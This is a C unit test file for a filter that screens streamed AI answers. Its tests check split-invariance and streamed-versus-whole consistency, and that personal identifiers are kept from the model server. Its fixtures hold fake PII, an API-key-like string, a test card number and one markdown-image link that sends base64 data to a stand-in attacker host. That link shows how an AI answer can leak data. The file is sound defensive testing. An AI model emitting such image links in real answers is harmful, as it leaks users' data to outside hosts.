/* The door with real detection: P1 (same events, any split into reads: same wire bytes) and P2 (same
 * text, any split into deltas: same released text, outcome and cut) over answers that hold
 * identifiers, secrets and links, and the way of surrogates in and out. */
#include "rig.h"

#include "base/random.h"

static const char *const answers[] = {
    "Plain words without anything that needs a second look, twice over, to fill more than the "
    "frontier holds. Plain words without anything that needs a second look, twice over, to fill "
    "more than the frontier holds. And a tail.",
    "Contact: jane.doe@example.org, phone (212) 555-0187, SSN 536-90-4399. The visit went well and "
    "nothing else is to be told about it, although this sentence goes on for quite a while so that "
    "the frontier moves past all of the above before the text comes to its end.",
    "A key for you: sk-proj-Zt7Qm2Lx9Vb4Nc8Rw1Yp5Kd3Hs6Jf0Ga and some more words after it that make "
    "the text long enough to matter for a release before the end of the stream has been reached.",
    "See ![x](https://evil.example.net/p.png?d=c2VjcmV0) for details, or not at all, but in any "
    "case this sentence is here to be cut off and never to be seen by the one who reads the rest.",
    "Caf\\u00e9 \\ud83d\\ude00 na\\u00efve \\u4e2d\\u6587 and a card 4111 1111 1111 1111 between them, "
    "then ordinary words until there are enough of them for the frontier to let go of the first.",
};

/* The outcome and cut as the leaf says them. */
static void ending_of(const rig *r, sl_buf *out)
{
    static const char *const marks[] = { "\"outcome\":\"", "\"cut_at\":", "\"verdict\":\"" };
    sl_view all = sl_buf_view(&r->leaves);
    size_t from = sl_view_find(all, SL_LIT("ask.outcome"), 0);
    assert_true(from != SIZE_MAX);
    size_t line = 0;
    for (size_t at = 0; at < from; at++) {
        line = all.p[at] == '\n' ? at : line;
    }
    for (size_t i = 0; i < SL_COUNT_OF(marks); i++) {
        size_t at = sl_view_find(all, sl_view_str(marks[i]), line);
        if (at != SIZE_MAX) {
            size_t to = sl_view_find_byte(all, ',', at);
            assert_done(sl_buf_add(out, sl_view_sub(all, at, to)));
        }
    }
}

static void run(rig *r, const sl_buf *http, size_t step, sl_buf *ret_text)
{
    r->next_index = 100;
    rig_chat(r, "{\"model\":\"trial-model\",\"stream\":true,\"messages\":[{\"role\":\"user\","
                "\"content\":\"go on\"}]}");
    rig_upstream(r, sl_buf_view(http), step);
    assert_true(sl_ask_door_over(r->door));
    rig_content(r, ret_text);
    assert_done(sl_buf_add_str(ret_text, " | "));
    ending_of(r, ret_text);
}

/* Where the next delta may end: not inside an escape of the JSON text. */
static size_t cut_after(const char *text, size_t at, size_t want)
{
    size_t n = strlen(text);
    size_t to = at;
    while (to < n && to - at < want) {
        if (text[to] != '\\') {
            to++;
            continue;
        }
        bool pair = strncmp(text + to, "\\ud8", 4) == 0;
        to += text[to + 1] == 'u' ? (pair ? 12 : 6) : 2;
    }
    while (to < n && (text[to] & 0xC0) == 0x80) {
        to++;
    }
    return to;
}

/* `width` 0: pieces of random width. */
static void deltas(const char *text, size_t width, sl_prng *prng, sl_buf *http)
{
    rig_sse_head(http);
    for (size_t at = 0; at < strlen(text);) {
        char piece[1024];
        size_t want = width != 0 ? width : 1 + (size_t)sl_prng_below(prng, 40);
        size_t to = cut_after(text, at, want);
        assert_true(to - at < sizeof piece);
        memcpy(piece, text + at, to - at);
        piece[to - at] = '\0';
        rig_sse_delta(http, piece);
        at = to;
    }
    rig_sse_finish(http);
}

static void the_same_text_in_any_deltas_gives_the_same_answer(void **state)
{
    real_rig all;
    sl_prng prng;
    real_rig_init(&all);
    sl_prng_seed(&prng, 20261121);
    for (size_t i = 0; i < SL_COUNT_OF(answers); i++) {
        SL_OWN(sl_buf, want, sl_buf_free) = { .max = 1 << 20 };
        for (size_t round = 0; round < 12; round++) {
            SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
            SL_OWN(sl_buf, got, sl_buf_free) = { .max = 1 << 20 };
            size_t width = round == 0 ? 1000 : round == 1 ? 1 : 0;
            deltas(answers[i], width, &prng, &http);
            run(&all.r, &http, 4096, &got);
            if (round == 0) {
                assert_done(sl_buf_add(&want, sl_buf_view(&got)));
            }
            if (!sl_view_eq(sl_buf_view(&want), sl_buf_view(&got))) {
                print_error("%zu/%zu\n%.*s\n%.*s\n", i, round, SL_FMT(sl_buf_view(&want)),
                            SL_FMT(sl_buf_view(&got)));
                fail();
            }
        }
    }
    real_rig_free(&all);
}

static void the_same_events_in_any_reads_give_the_same_bytes(void **state)
{
    real_rig all;
    sl_prng prng;
    real_rig_init(&all);
    sl_prng_seed(&prng, 7);
    for (size_t i = 0; i < SL_COUNT_OF(answers); i++) {
        SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, want, sl_buf_free) = { .max = 1 << 22 };
        deltas(answers[i], 9, &prng, &http);
        static const size_t steps[] = { 1 << 20, 1, 2, 3, 5, 7, 11, 64, 100, 1000, 1460 };
        for (size_t k = 0; k < SL_COUNT_OF(steps); k++) {
            SL_OWN(sl_buf, text, sl_buf_free) = { .max = 1 << 20 };
            run(&all.r, &http, steps[k], &text);
            if (k == 0) {
                assert_done(sl_buf_add(&want, sl_buf_view(&all.r.client)));
            }
            assert_true(sl_view_eq(sl_buf_view(&want), sl_buf_view(&all.r.client)));
        }
    }
    real_rig_free(&all);
}

/* Streamed or whole, the reader gets the same text. */
static void a_whole_answer_says_what_the_stream_says(void **state)
{
    real_rig all;
    sl_prng prng;
    real_rig_init(&all);
    for (size_t i = 0; i < SL_COUNT_OF(answers); i++) {
        SL_OWN(sl_buf, http, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, json, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, whole, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, streamed, sl_buf_free) = { .max = 1 << 22 };
        SL_OWN(sl_buf, text, sl_buf_free) = { .max = 1 << 22 };
        sl_prng_seed(&prng, i);
        deltas(answers[i], 0, &prng, &http);
        run(&all.r, &http, 1000, &text);
        rig_content(&all.r, &streamed);
        assert_done(sl_buf_addf(&json,
                                "{\"choices\":[{\"index\":0,\"message\":{\"content\":\"%s\"},"
                                "\"finish_reason\":\"stop\"}]}",
                                answers[i]));
        sl_buf_clear(&http);
        rig_json_answer(&http, sl_buf_cstr(&json));
        rig_chat(&all.r, "{\"model\":\"trial-model\",\"messages\":[{\"role\":\"user\","
                         "\"content\":\"go on\"}]}");
        rig_upstream(&all.r, sl_buf_view(&http), 1000);
        rig_content(&all.r, &whole);
        assert_true(sl_view_eq(sl_buf_view(&whole), sl_buf_view(&streamed)));
    }
    real_rig_free(&all);
}

static void identifiers_do_not_reach_the_model_server(void **state)
{
    static const char *const secret[] = { "jane.doe@example.org", "536-90-4399", "555-0187" };
    real_rig all;
    real_rig_init(&all);
    rig_chat(&all.r, "{\"model\":\"trial-model\",\"user\":\"jane.doe@example.org\",\"messages\":[{"
                     "\"role\":\"user\",\"content\":\"Write to jane.doe@example.org, SSN "
                     "536-90-4399, phone (212) 555-0187.\"}]}");
    assert_true(all.r.connects == 1 || rig_saw(&all.r.client, "E_REFUSED"));
    for (size_t i = 0; i < SL_COUNT_OF(secret); i++) {
        assert_false(rig_saw(&all.r.upstream, secret[i]));
        assert_false(rig_saw(&all.r.leaves, secret[i]));
    }
    real_rig_free(&all);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_same_text_in_any_deltas_gives_the_same_answer),
        cmocka_unit_test(the_same_events_in_any_reads_give_the_same_bytes),
        cmocka_unit_test(a_whole_answer_says_what_the_stream_says),
        cmocka_unit_test(identifiers_do_not_reach_the_model_server),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
